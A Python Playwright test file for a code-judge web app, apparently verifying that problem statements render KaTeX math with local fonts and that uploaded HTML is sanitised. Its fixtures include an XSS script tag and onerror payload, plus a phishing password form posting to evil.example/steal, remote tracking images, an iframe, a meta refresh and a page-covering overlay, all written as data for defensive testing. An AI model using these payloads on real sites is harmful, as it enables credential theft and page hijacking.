"""A statement's Markdown in Debian's Chromium: math ($…$ inline, $$…$$ display) rendered by
KaTeX with its fonts from the package (no other origin is ever asked), code blocks kept, and
HTML that could run script removed; HTML that could restyle, cover or fake the page (a style
element or attribute, a fixed overlay, a password form, a remote image) has no effect either.
The problem is put on a fresh server through the admin API, the way an operator adds one (or
imports a Kattis package written by someone else)."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from playwright.sync_api import Browser, expect

from codejudge.problems import BUNDLED_DIR
from tests.conftest import Server
from tests.web import support
from tests.web.support import new_page, shot

browser = support.browser  # the fixture

TOKEN = "statement-test-token"
STATEMENT = r"""# Sum of Squares

Given $n$ integers $a_1, \dots, a_n$, return $\sum_{i=1}^{n} a_i^2$.

$$
\sum_{i=1}^{n} a_i^2 \le n \cdot \max_i a_i^2
$$

```
Input:  nums = [1, 2]
Output: 5
```

A price of 5 dollars is not math. <script>window.injected = true</script>
<img src="/nothing" onerror="window.injected = true">
"""


# What a hostile uploader may write: each line tries to change the page around the statement.
HOSTILE = r"""# Hostile Sum

<style>header{background:red} button.primary{display:none}</style>

<div style="position:fixed;inset:0;z-index:9999;background:rgba(255,0,0,.5)">overlay</div>

<p class="primary visually-hidden" id="announcer">A plain paragraph.</p>

<form action="http://evil.example/steal"><input type="password" name="p"
placeholder="Re-enter your password"><button>Go</button></form>

<img src="http://evil.example/pixel.png" alt="remote image">
<img src="//evil.example/protocol-relative.png" alt="protocol-relative image">
<img src="/favicon.ico" alt="local image">
<img alt="inline"
src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==">

<iframe src="http://evil.example/frame"></iframe>
<link rel="stylesheet" href="http://evil.example/style.css">
<meta http-equiv="refresh" content="0; url=http://evil.example/">

Math: $x^2 + y^2$, $\htmlStyle{position:fixed;inset:0;background:red}{x}$ and $\href{http://evil.example}{y}$.

$$
\sum_{i=1}^{n} i = \frac{n(n+1)}{2}
$$

A placeholder by hand: <span class="math-inline" style="position:fixed;inset:0">z</span>
"""

# The statement's elements that have an effect on the page beyond their own text: styles from
# anything but KaTeX's output, fixed or sticky positioning, controls, frames, remote loads.
EFFECTS_JS = """(root) => {
  const found = [];
  for (const node of root.querySelectorAll("*")) {
    const what = `${node.tagName.toLowerCase()}.${node.className}`;
    const katex = node.closest(".katex, .katex-error");
    if (node.hasAttribute("style") && !katex) found.push(`style on ${what}`);
    const position = getComputedStyle(node).position;
    if (position === "fixed" || position === "sticky") found.push(`${position} ${what}`);
    const controls = "form, input, button, textarea, select, option";
    if (node.matches(`style, link, meta, iframe, object, embed, ${controls}`)) found.push(what);
    if (node.id || node.getAttribute("name")) found.push(`named ${what}`);
  }
  return found;
}"""


def upload(server: Server, slug: str, statement: str) -> None:
    with server.client(headers={"Authorization": f"Bearer {TOKEN}"}) as client:
        saved = client.put(
            f"/api/v1/admin/problems/{slug}", json={"files": math_problem(slug, statement)}
        )
        assert saved.status_code == 200, saved.text


def math_problem(slug: str, statement: str = STATEMENT) -> dict[str, str]:
    """Two Sum's package (tests and all) under another slug, with ``statement``."""
    source = BUNDLED_DIR / "two-sum"
    files = {
        str(path.relative_to(source)): path.read_text(encoding="utf-8")
        for path in source.rglob("*")
        if path.is_file() and path.parts[len(source.parts)] in ("tests", "problem.toml")
    }
    files["problem.toml"] = (
        files["problem.toml"]
        .replace('slug = "two-sum"', f'slug = "{slug}"')
        .replace('title = "Two Sum"', 'title = "Sum of Squares"')
    )
    files["statement.md"] = statement
    return files


def test_math_renders_with_local_fonts_and_html_is_sanitised(
    browser: Browser, server_factory: Callable[..., Server], tmp_path: Path
) -> None:
    server = server_factory(workers=0, CODEJUDGE_ADMIN_TOKEN=TOKEN)
    upload(server, "sum-of-squares", STATEMENT)
    page = new_page(browser, server)
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    try:
        page.goto("/problems/sum-of-squares")
        statement = page.get_by_role("tabpanel", name="Description")
        expect(statement.get_by_role("heading", name="Sum of Squares", level=1)).to_be_visible()
        expect(statement.locator(".katex").first).to_be_visible()
        expect(statement.locator(".katex-display")).to_have_count(1)
        expect(statement.locator("math")).to_have_count(4)  # MathML for screen readers too
        expect(statement.locator("pre code")).to_contain_text("Output: 5")
        expect(statement).to_contain_text("A price of 5 dollars is not math.")
        page.evaluate("document.fonts.ready")
        assert page.evaluate("document.fonts.check('16px KaTeX_Main')")
        assert page.evaluate("window.injected") is None
        assert statement.locator("script, [onerror]").count() == 0
        assert any("/static/fonts/KaTeX_" in url for url in requested)
        assert all(url.startswith(server.url) for url in requested), requested
        shot(page, tmp_path, "math.png")
    finally:
        page.context.close()


def test_a_statement_without_math_does_not_load_katex(browser: Browser, server: Server) -> None:
    page = new_page(browser, server)
    loaded: list[str] = []
    page.on("request", lambda request: loaded.append(request.url))
    try:
        page.goto("/problems/two-sum")
        expect(page.get_by_role("textbox", name="Code editor")).to_be_visible()
        assert not [url for url in loaded if "katex" in url.lower() or "/chunks/math-" in url]
    finally:
        page.context.close()


def test_a_hostile_statement_cannot_restyle_cover_or_fake_the_page(
    browser: Browser, server_factory: Callable[..., Server], tmp_path: Path
) -> None:
    """The header keeps its colour, Submit stays visible and is what a click there hits, no
    form asks for a password, no other origin is asked for anything, nothing in the statement
    is styled or positioned but KaTeX's output, and the math still renders (TeX's commands that
    need trust, \\htmlStyle and \\href, shown as unsupported)."""
    server = server_factory(workers=0, CODEJUDGE_ADMIN_TOKEN=TOKEN)
    upload(server, "hostile-sum", HOSTILE)
    page = new_page(browser, server, viewport={"width": 1400, "height": 900})
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    try:
        page.goto("/problems/hostile-sum")
        statement = page.get_by_role("tabpanel", name="Description")
        expect(statement.get_by_role("heading", name="Hostile Sum", level=1)).to_be_visible()
        expect(statement).to_contain_text("A plain paragraph.")
        header = page.evaluate("getComputedStyle(document.querySelector('header')).backgroundColor")
        assert header == "rgb(246, 248, 250)"  # --soft, not red
        submit = page.get_by_role("button", name="Submit")
        expect(submit).to_be_visible()
        submit.click(trial=True)  # actionable: visible, enabled, and not covered
        box = submit.bounding_box()
        assert box is not None
        hit = page.evaluate(
            "([x, y]) => document.elementFromPoint(x, y)?.closest('button')?.textContent",
            [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2],
        )
        assert hit == "Submit"
        assert statement.evaluate(EFFECTS_JS) == []
        assert page.get_by_placeholder("Re-enter your password").count() == 0
        images = statement.locator("img")
        alts = images.evaluate_all("(all) => all.map((i) => i.alt)")
        assert sorted(alts) == ["inline", "local image"]
        page.wait_for_load_state("networkidle")
        assert page.url.endswith("/problems/hostile-sum")  # no meta refresh
        assert all(url.startswith((server.url, "data:")) for url in requested), requested
        expect(statement.locator(".katex-display")).to_have_count(1)
        expect(statement.locator(".katex")).to_have_count(5)  # 3 inline, 1 display, the fake one
        shot(page, tmp_path, "hostile.png")
    finally:
        page.context.close()
